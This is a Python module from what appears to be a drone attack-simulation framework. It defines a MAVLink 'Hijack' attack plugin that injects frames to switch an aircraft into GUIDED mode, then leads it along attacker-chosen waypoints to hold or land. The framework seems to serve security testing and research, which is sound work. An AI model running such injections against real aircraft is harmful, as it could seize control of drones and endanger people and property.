"""Hijack: the aircraft is changed to GUIDED and led along a track by position targets."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Literal

from skyrange.attack.bases.mavlink.injection import Injection
from skyrange.attack.bases.mavlink.leading import Leader
from skyrange.attack.bases.mavlink.orders import Order
from skyrange.attack.bases.mavlink.params import Track
from skyrange.attack.contract import Place
from skyrange.attack.declaration import attack
from skyrange.attack.presets import CONTROL_LINKS, on_control_link, sham_to_nobody
from skyrange.codec.mavlink import Message
from skyrange.contracts.params import Number
from skyrange.contracts.plugins.fields import param
from skyrange.core.time import Time


@attack(
    "mavlink.guided",
    technique="T0831",
    surface=CONTROL_LINKS,
    persists="mode",
    effect="the aircraft flies to a place that the attacker chose and stays there or lands",
    places=(),
    threat=on_control_link(
        "system ids, and mode and position that telemetry tells", budget="one or two frames for each target"
    ),
    controls=sham_to_nobody(
        acts="targets",
        content="targets along the plan of the aircraft itself",
        placement="the same track for another aircraft",
    ),
)
class Hijack(Injection):
    """Changes the aircraft to GUIDED and leads it along a track to another place."""

    reads = ("HEARTBEAT", "GLOBAL_POSITION_INT")

    track: Track = param(
        "Places to lead the aircraft to, in order, each [east_m, north_m, up_m] in metres from the origin."
    )
    within_m: Number = param("Distance at which a place counts as reached, in metres.", default=3.0, gt=0, le=1000)
    every_s: Number = param("Time between two targets, in seconds.", default=0.5, ge=0.02, le=10)
    then: Literal["hold", "land"] = param("At the last place: hold it, or land there (mode LAND).", default="hold")
    leader: Leader

    def begin(self) -> None:
        """Make what chooses the targets."""
        super().begin()
        self.leader = Leader(
            self.claimed, self.schedule, self.origin, self.track, self.within_m, self.period_ns(), self.then == "land"
        )

    def marks(self) -> dict[str, Place]:
        """The end of the track."""
        return {"end of the track": self.track[-1]}

    def on_message(self, now: Time, message: Message) -> None:
        """Learn mode and position."""
        self.leader.learn(now, message)

    def orders(self, now: Time) -> Sequence[Order | Message]:
        """A change of mode, if one is needed, and the target."""
        return self.leader.orders(now)
